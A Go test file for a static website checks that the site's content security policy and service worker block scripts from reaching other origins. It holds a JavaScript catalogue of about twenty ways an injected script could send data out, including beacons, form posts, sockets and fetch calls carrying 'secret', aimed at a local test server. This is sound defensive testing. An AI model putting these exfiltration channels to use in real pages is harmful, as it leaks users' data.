package main

import (
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"sync/atomic"
	"testing"
)

// A static host that sends no headers, with the site in a folder of it: what the document
// and the service worker hold by themselves.

const folder = "/some/where"

// staticHost serves the site as make site writes it, less what prepare takes away.
func staticHost(t *testing.T, prepare func(dir string)) *httptest.Server {
	t.Helper()
	e, err := testEngine()
	if err != nil {
		t.Fatal(err)
	}
	s, err := newSite(e, brotliQuick, nil)
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	if err := s.write(dir); err != nil {
		t.Fatal(err)
	}
	prepare(dir)
	server := httptest.NewServer(http.StripPrefix(folder, http.FileServer(http.Dir(dir))))
	t.Cleanup(server.Close)
	return server
}

// elsewhere is another origin that would take everything, and counts what comes.
func elsewhere(t *testing.T) (url string, came *atomic.Int32) {
	t.Helper()
	came = &atomic.Int32{}
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		came.Add(1)
		t.Logf("elsewhere got %s %s", r.Method, r.URL)
		w.Header().Set("Access-Control-Allow-Origin", "*")
		w.Header().Set("Cross-Origin-Resource-Policy", "cross-origin")
	}))
	t.Cleanup(server.Close)
	return server.URL, came
}

// ways are those by which a script that had got into the page could send something out.
const ways = `
	const add = (name, properties, inside = document.body) => new Promise(resolve => {
		const element = Object.assign(document.createElement(name), properties)
		element.onload = element.onloadeddata = () => resolve('loaded')
		element.onerror = () => resolve('refused')
		inside.append(element)
		setTimeout(resolve, 700, 'nothing')
	})
	const told = promise => promise.then(() => 'loaded', () => 'refused')
	const heard = target => new Promise(resolve => {
		target.onopen = () => resolve('loaded')
		target.onerror = () => resolve('refused')
		setTimeout(resolve, 700, 'nothing')
	})
	globalThis.inlineRan = false
	const form = Object.assign(document.createElement('form'), { method: 'post', action: far + '/form', target: 'formFrame' })
	const ways = {
		inline: add('script', { textContent: 'globalThis.inlineRan = true' }).then(() => inlineRan ? 'loaded' : 'refused'),
		evaluated: new Promise(resolve => setTimeout(() => { try { (0, eval)('1'); resolve('loaded') } catch { resolve('refused') } })),
		script: add('script', { src: far + '/x.js' }),
		module: told(import(far + '/x.mjs')),
		image: add('img', { src: far + '/x.png' }),
		video: add('video', { src: far + '/x.mp4', preload: 'auto' }),
		style: add('link', { rel: 'stylesheet', href: far + '/x.css' }, document.head),
		prefetch: add('link', { rel: 'prefetch', href: far + '/x' }, document.head),
		manifest: add('link', { rel: 'manifest', href: far + '/x.json' }, document.head),
		object: add('object', { data: far + '/x' }),
		frame: add('iframe', { src: far + '/x' }).then(() => 'nothing'), // what is refused loads as an empty page
		fetch: told(fetch(far + '/x')),
		post: told(fetch(far + '/x', { method: 'POST', body: 'secret' })),
		blind: told(fetch(far + '/x', { method: 'POST', mode: 'no-cors', body: 'secret' })),
		keepalive: told(fetch(far + '/x', { method: 'POST', mode: 'no-cors', keepalive: true, body: 'secret' })),
		xhr: new Promise(resolve => {
			const request = new XMLHttpRequest()
			request.open('POST', far + '/x')
			request.onload = () => resolve('loaded')
			request.onerror = () => resolve('refused')
			request.send('secret')
		}),
		socket: (async () => heard(new WebSocket(far.replace('http', 'ws'))))().catch(() => 'refused'),
		events: heard(new EventSource(far + '/x')),
		worker: (async () => heard(new Worker(URL.createObjectURL(new Blob(['postMessage(1)'])))))().catch(() => 'refused'),
	}
	navigator.sendBeacon(far + '/beacon', 'secret')
	document.body.append(form)
	form.submit()
	const open = []
	for (const [way, end] of Object.entries(ways)) if (await end === 'loaded') open.push(way)
	await new Promise(resolve => setTimeout(resolve, 500))
	return open`

// tryWays tries them all and fails for each that is open.
func (b *browserTab) tryWays(url string, came *atomic.Int32) {
	b.t.Helper()
	open := eval[[]string](b, "const far = '"+url+"'\n"+ways)
	if len(open) > 0 || came.Load() > 0 {
		b.t.Errorf("open: %q; %d requests came elsewhere", open, came.Load())
	}
}

// The document alone: the service worker is missing, as where storage is blocked.
func TestDocumentHoldsThePolicy(t *testing.T) {
	server := staticHost(t, func(dir string) {
		if err := os.Remove(filepath.Join(dir, "sw.js")); err != nil {
			t.Fatal(err)
		}
	})
	b := startBrowser(t, server.URL+folder, "")
	b.page("")
	b.click("[data-world=near]")
	b.train("A")
	b.checkStayedHome()
	url, came := elsewhere(t)
	b.tryWays(url, came)
}

// With the service worker the page is isolated, and its workers have the policy too.
func TestPageOnStaticHost(t *testing.T) {
	url, came := elsewhere(t)
	server := staticHost(t, func(dir string) {
		probe := "self.onmessage = async ({ data }) => postMessage(await fetch(data).then(() => 'loaded', () => 'refused'))"
		if err := os.WriteFile(filepath.Join(dir, "probe.js"), []byte(probe), 0o644); err != nil {
			t.Fatal(err)
		}
	})
	b := startBrowser(t, server.URL+folder, "")
	b.page("")
	b.wait("crossOriginIsolated && document.body.dataset.ready !== undefined", "the page has been loaded again, isolated")
	b.click("[data-world=near]")
	b.train("A")
	b.checkStayedHome()
	b.tryWays(url, came)
	if got := eval[string](b, `
		const worker = new Worker('probe.js')
		worker.postMessage('`+url+`/x')
		return await new Promise(resolve => { worker.onmessage = ({ data }) => resolve(data) })`); got != "refused" || came.Load() > 0 {
		t.Errorf("a worker of the site fetches from elsewhere: %s, %d", got, came.Load())
	}
	if got := failure(b, "await fetch('', { method: 'POST', body: 'secret' })"); !strings.Contains(got, "Failed to fetch") {
		t.Errorf("a POST to the site: %s", got)
	}
	headers := eval[string](b, "const h = (await fetch('thaw.js')).headers; return h.get('content-security-policy') + h.get('permissions-policy') + h.get('x-content-type-options')")
	if !strings.Contains(headers, "frame-ancestors 'none'") || !strings.Contains(headers, "camera=(self)") || !strings.Contains(headers, "nosniff") {
		t.Errorf("the service worker sets %s", headers)
	}
}
